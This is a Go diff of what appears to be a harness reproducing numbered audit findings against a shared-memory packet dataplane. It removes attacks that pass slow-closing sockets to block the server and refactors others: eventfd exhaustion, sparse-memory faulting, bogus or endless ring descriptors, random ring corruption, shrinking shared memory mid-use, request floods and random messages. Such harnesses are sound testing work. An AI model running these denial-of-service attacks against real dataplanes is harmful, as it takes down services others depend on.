@@ -3,7 +3,6 @@ package main
 import (
 	"context"
 	"encoding/binary"
-	"errors"
 	"fmt"
 	"math/rand/v2"
 	"net"
@@ -38,107 +37,9 @@ func pause(ctx context.Context, d time.Duration) {
 	}
 }
 
-// lingering makes a TCP socket whose close takes an hour: its data is never read. The other end stays open.
-func lingering(o orders) (fd int, err error) {
-	err = netns.Do(o.Netns, func() error {
-		listener, err := net.ListenTCP("tcp4", &net.TCPAddr{IP: net.IPv4(127, 0, 0, 1)})
-		if err != nil {
-			return err
-		}
-		raw, err := listener.SyscallConn()
-		if err != nil {
-			return err
-		}
-		_ = raw.Control(func(fd uintptr) { _ = unix.SetsockoptInt(int(fd), unix.SOL_SOCKET, unix.SO_RCVBUF, 1) })
-		defer listener.Close()
-		if fd, err = unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0); err != nil {
-			return err
-		}
-		address := &unix.SockaddrInet4{Port: listener.Addr().(*net.TCPAddr).Port, Addr: [4]byte{127, 0, 0, 1}}
-		err = errors.Join(
-			unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_SNDBUF, 4096),
-			unix.SetsockoptLinger(fd, unix.SOL_SOCKET, unix.SO_LINGER, &unix.Linger{Onoff: 1, Linger: 3600}),
-			unix.Connect(fd, address), unix.SetNonblock(fd, true))
-		if err != nil {
-			return err
-		}
-		other, err := listener.AcceptTCP()
-		if err != nil {
-			return err
-		}
-		kept = append(kept, other)
-		for stuck := 0; stuck < 3; { // what was sent may leave room a moment later
-			n, _ := unix.Write(fd, make([]byte, 1<<16))
-			if stuck++; n > 0 {
-				stuck = 0
-			}
-			<-time.After(time.Millisecond)
-		}
-		return unix.SetNonblock(fd, false)
-	})
-	return fd, err
-}
-
-// leaveTo passes a descriptor and gives it up, so that the last close is the server's. It is within a socket, of which the attacker
-// has the only descriptor until then.
-func (c *client) leaveTo(fd int) error {
-	pair, err := unix.Socketpair(unix.AF_UNIX, unix.SOCK_SEQPACKET|unix.SOCK_CLOEXEC, 0)
-	if err != nil {
-		return errors.Join(err, unix.Close(fd))
-	}
-	err = unix.Sendmsg(pair[0], []byte{0}, unix.UnixRights(fd), nil, 0)
-	_ = unix.Close(fd)
-	_ = unix.Close(pair[0])
-	err = errors.Join(err, c.say(ackMessage, pair[1], nil))
-	go unix.Close(pair[1]) // if the server was faster, it lasts
-	return err
-}
-
-// kept are sockets that are never read.
-var kept []*net.TCPConn
-
-// lingeringDescriptors: finding 1a. A connected client passes descriptors whose close blocks, as messages that nobody expects.
-func lingeringDescriptors(ctx context.Context, o orders, underWay func()) error {
-	return again(ctx, underWay, func() error {
-		c, err := dial(o)
-		if err != nil {
-			return err
-		}
-		defer c.free()
-		defer c.leave()
-		if err = c.allocate(shared{}, 1, 10); err == nil {
-			err = c.connect(o, honestEvent)
-		}
-		if err != nil {
-			return err
-		}
-		fd, err := lingering(o)
-		if err != nil {
-			return err
-		}
-		return c.leaveTo(fd)
-	})
-}
-
-// manyLingeringDescriptors: finding 1b. Clients without the secret queue such descriptors behind a bad first message.
-func manyLingeringDescriptors(ctx context.Context, o orders, underWay func()) error {
-	return again(ctx, underWay, func() error {
-		c, err := dial(o)
-		if err != nil {
-			return err
-		}
-		defer c.leave()
-		fd, err := lingering(o)
-		if err != nil {
-			return err
-		}
-		return errors.Join(c.say(connectMessage, -1, nil), c.leaveTo(fd))
-	})
-}
-
 // blockingEventfd: finding 3. Asynchronous I/O is exhausted, so that a dataplane that starts now has none; then the client's eventfd
 // is full and blocks.
-func blockingEventfd(ctx context.Context, o orders, underWay func()) error {
+func blockingEventfd(ctx context.Context, o campaign) error {
 	for events := uintptr(1 << 16); events > 0; events /= 2 {
 		for {
 			var context uintptr
@@ -147,7 +48,7 @@ func blockingEventfd(ctx context.Context, o orders, underWay func()) error {
 			}
 		}
 	}
-	underWay()
+	o.underWay()
 	full := func() (int, error) {
 		fd, err := unix.Eventfd(0, unix.EFD_CLOEXEC)
 		if err == nil {
@@ -155,24 +56,24 @@ func blockingEventfd(ctx context.Context, o orders, underWay func()) error {
 		}
 		return fd, err
 	}
-	return again(ctx, underWay, func() error {
-		c, err := dial(o)
+	return again(ctx, o.underWay, func() error {
+		c, err := dial(o.orders)
 		if err != nil {
 			return err
 		}
 		defer c.free()
 		defer c.leave()
 		if err = c.allocate(shared{paid: true}, 1, 10); err == nil {
-			err = c.connect(o, full)
+			err = c.connect(o.orders, full)
 		}
 		if err != nil {
 			return err
 		}
 		in := c.ring(false, 0)
 		for i := range c.slots {
-			slot(in, i, 0, 0, 2048, uint32(len(c.memory)-4096))
+			descriptor{length: 2048, offset: uint32(len(c.memory) - 4096)}.put(in, i)
 		}
-		return send(ctx, o, o.Address, func() error {
+		return send(ctx, o.orders, o.Address, func() error {
 			binary.LittleEndian.PutUint16(in[6:], binary.LittleEndian.Uint16(in[64:])+uint16(c.slots-1))
 			return nil
 		})
@@ -200,16 +101,16 @@ func send(ctx context.Context, o orders, to netip.Addr, each func() error) error
 }
 
 // sparseMemory: finding 4. The dataplane touches memory without pages first, and so pays for them; the client keeps it.
-func sparseMemory(ctx context.Context, o orders, underWay func()) error {
+func sparseMemory(ctx context.Context, o campaign) error {
 	sizes := []int{1 << 30, 256 << 20, 32 << 20, 16 << 20}
 	keptClients := []*client{}
-	return again(ctx, underWay, func() error {
-		c, err := dial(o)
+	return again(ctx, o.underWay, func() error {
+		c, err := dial(o.orders)
 		if err != nil {
 			return err
 		}
 		if err = c.allocate(shared{size: sizes[0]}, 1, 10); err == nil {
-			err = c.connect(o, honestEvent)
+			err = c.connect(o.orders, honestEvent)
 		}
 		if err != nil {
 			c.leave()
@@ -223,7 +124,7 @@ func sparseMemory(ctx context.Context, o orders, underWay func()) error {
 		out := c.ring(true, 0)
 		for at, last := 1<<20, len(c.memory)-4096; at < last && ctx.Err() == nil; {
 			for i := range c.slots {
-				slot(out, i, 0, 0, 64, uint32(at))
+				descriptor{length: 64, offset: uint32(at)}.put(out, i)
 				at = min(at+4096, last)
 			}
 			c.publish(0, c.slots)
@@ -255,16 +156,23 @@ func sparseMemory(ctx context.Context, o orders, underWay func()) error {
 	})
 }
 
-// ringsOf has an attack on the rings of a connection go on until ctx or the connection ends.
-func ringsOf(ctx context.Context, o orders, underWay func(), m shared, prepare, each func(c *client)) error {
-	return again(ctx, underWay, func() error {
-		c, err := greediest(o, m)
+// ringAttack is one on the rings of a connection.
+type ringAttack struct {
+	memory  shared
+	prepare func(c *client) // once, after the handshake
+	each    func(c *client) // until the connection ends
+}
+
+// onRings connects and attacks until ctx ends, again whenever the connection does.
+func onRings(ctx context.Context, o campaign, a ringAttack) error {
+	return again(ctx, o.underWay, func() error {
+		c, err := greediest(o.orders, a.memory)
 		if err != nil {
 			return err
 		}
 		defer c.free()
 		defer c.leave()
-		prepare(c)
+		a.prepare(c)
 		gone := c.awaitEnd()
 		for ctx.Err() == nil {
 			select {
@@ -272,8 +180,8 @@ func ringsOf(ctx context.Context, o orders, underWay func(), m shared, prepare, 
 				return err
 			default:
 			}
-			underWay()
-			each(c)
+			o.underWay()
+			a.each(c)
 		}
 		return nil
 	})
@@ -287,84 +195,86 @@ func (c *client) allRings(f func(ring []byte)) {
 }
 
 // wrongDescriptors: finding 5. Rings that are always full of descriptors that point nowhere.
-func wrongDescriptors(ctx context.Context, o orders, underWay func()) error {
-	return ringsOf(ctx, o, underWay, shared{}, func(c *client) {
+func wrongDescriptors(ctx context.Context, o campaign) error {
+	return onRings(ctx, o, ringAttack{prepare: func(c *client) {
 		c.allRings(func(ring []byte) {
 			for i := range c.slots {
-				slot(ring, i, 0, 7, 64, 0)
+				descriptor{region: 7, length: 64}.put(ring, i)
 			}
 		})
-	}, func(c *client) {
+	}, each: func(c *client) {
 		c.publishAll(c.slots)
 		pause(ctx, 100*time.Microsecond)
-	})
+	}})
 }
 
 // endlessChains are packets of as many empty buffers as the ring has, and a last one.
-func endlessChains(ctx context.Context, o orders, underWay func()) error {
-	return ringsOf(ctx, o, underWay, shared{paid: true}, func(c *client) {
+func endlessChains(ctx context.Context, o campaign) error {
+	return onRings(ctx, o, ringAttack{memory: shared{paid: true}, prepare: func(c *client) {
 		c.allRings(func(ring []byte) {
 			for i := range c.slots - 1 {
-				slot(ring, i, 1, 0, 0, 1<<20)
+				descriptor{flags: 1, offset: 1 << 20}.put(ring, i)
 			}
-			slot(ring, c.slots-1, 0, 0, 64, uint32(len(c.memory)-64))
+			descriptor{length: 64, offset: uint32(len(c.memory) - 64)}.put(ring, c.slots-1)
 		})
-	}, func(c *client) {
+	}, each: func(c *client) {
 		c.publishAll(c.slots)
 		pause(ctx, 100*time.Microsecond)
-	})
+	}})
 }
 
 // kicks rings the dataplane all the time, with nothing to receive.
-func kicks(ctx context.Context, o orders, underWay func()) error {
+func kicks(ctx context.Context, o campaign) error {
 	one := binary.NativeEndian.AppendUint64(nil, 1)
-	return ringsOf(ctx, o, underWay, shared{}, func(*client) {}, func(c *client) {
+	return onRings(ctx, o, ringAttack{prepare: func(*client) {}, each: func(c *client) {
 		for _, fd := range c.events {
 			_, _ = unix.Write(fd, one)
 		}
-	})
+	}})
 }
 
 // changingRings writes at random into the rings while the dataplane works with them.
-func changingRings(ctx context.Context, o orders, underWay func()) error {
+func changingRings(ctx context.Context, o campaign) error {
 	random := rand.New(rand.NewPCG(1, 2))
-	return ringsOf(ctx, o, underWay, shared{paid: true}, func(c *client) { noise(c.memory[2*c.ringSpace():], random) }, func(c *client) {
+	return onRings(ctx, o, ringAttack{memory: shared{paid: true}, prepare: func(c *client) {
+		noise(c.memory[2*c.ringSpace():], random)
+	}, each: func(c *client) {
 		for range 64 {
 			noise(c.memory[random.IntN(2*c.ringSpace()-8):][:8], random)
 		}
 		c.publishAll(random.IntN(c.slots + 2))
-	})
+	}})
 }
 
 // shrinkingMemory takes pages away while the dataplane works with them.
-func shrinkingMemory(ctx context.Context, o orders, underWay func()) error {
-	return ringsOf(ctx, o, underWay, shared{unsealable: true}, func(c *client) {
+func shrinkingMemory(ctx context.Context, o campaign) error {
+	return onRings(ctx, o, ringAttack{memory: shared{unsealable: true}, prepare: func(c *client) {
 		c.allRings(func(ring []byte) {
 			for i := range c.slots {
-				slot(ring, i, 0, 0, 64, uint32(len(c.memory)-4096))
+				descriptor{length: 64, offset: uint32(len(c.memory) - 4096)}.put(ring, i)
 			}
 		})
 		c.publishAll(c.slots)
-	}, func(c *client) {
+	}, each: func(c *client) {
 		_ = unix.Ftruncate(c.fd, int64(len(c.memory)-8192))
 		pause(ctx, time.Millisecond)
 		_ = unix.Ftruncate(c.fd, int64(len(c.memory)))
 		defer func() { _ = recover() }()
 		c.publishAll(c.slots)
-	})
+	}})
 }
 
 // unreadAnswers: finding 10. A client that asks for as many rings as there can be and reads no answer.
-func unreadAnswers(ctx context.Context, o orders, underWay func()) error {
-	return again(ctx, underWay, func() error {
-		c, err := dial(o)
+func unreadAnswers(ctx context.Context, o campaign) error {
+	return again(ctx, o.underWay, func() error {
+		c, err := dial(o.orders)
 		if err != nil {
 			return err
 		}
 		defer c.free()
 		defer c.leave()
 		if err = c.allocate(shared{}, 255, 4); err == nil {
-			err = c.initiate(o)
+			err = c.initiate(o.orders)
 		}
 		if err == nil {
 			err = c.say(addRegionMessage, c.fd, func(b []byte) { binary.LittleEndian.PutUint64(b[4:], uint64(len(c.memory))) })
@@ -372,33 +282,33 @@ func unreadAnswers(ctx context.Context, o orders, underWay func()) error {
 		for i := 0; err == nil && i < 510; i++ {
 			err = c.addRing(i < 255, i%255, honestEvent)
 		}
-		underWay()
+		o.underWay()
 		pause(ctx, 3*time.Second)
 		return err
 	})
 }
 
 // reconnects connects as fast as it can.
-func reconnects(ctx context.Context, o orders, underWay func()) error {
-	return again(ctx, underWay, func() error {
-		c, err := dial(o)
+func reconnects(ctx context.Context, o campaign) error {
+	return again(ctx, o.underWay, func() error {
+		c, err := dial(o.orders)
 		if err != nil {
 			return err
 		}
 		defer c.free()
 		defer c.leave()
 		if err = c.allocate(shared{}, 1, 10); err == nil {
-			err = c.connect(o, honestEvent)
+			err = c.connect(o.orders, honestEvent)
 		}
 		return err
 	})
 }
 
 // strangers say anything, without the secret, and pass descriptors with it.
-func strangers(ctx context.Context, o orders, underWay func()) error {
+func strangers(ctx context.Context, o campaign) error {
 	random := rand.New(rand.NewPCG(3, 4))
-	return again(ctx, underWay, func() error {
-		c, err := dial(o)
+	return again(ctx, o.underWay, func() error {
+		c, err := dial(o.orders)
 		if err != nil {
 			return err
 		}
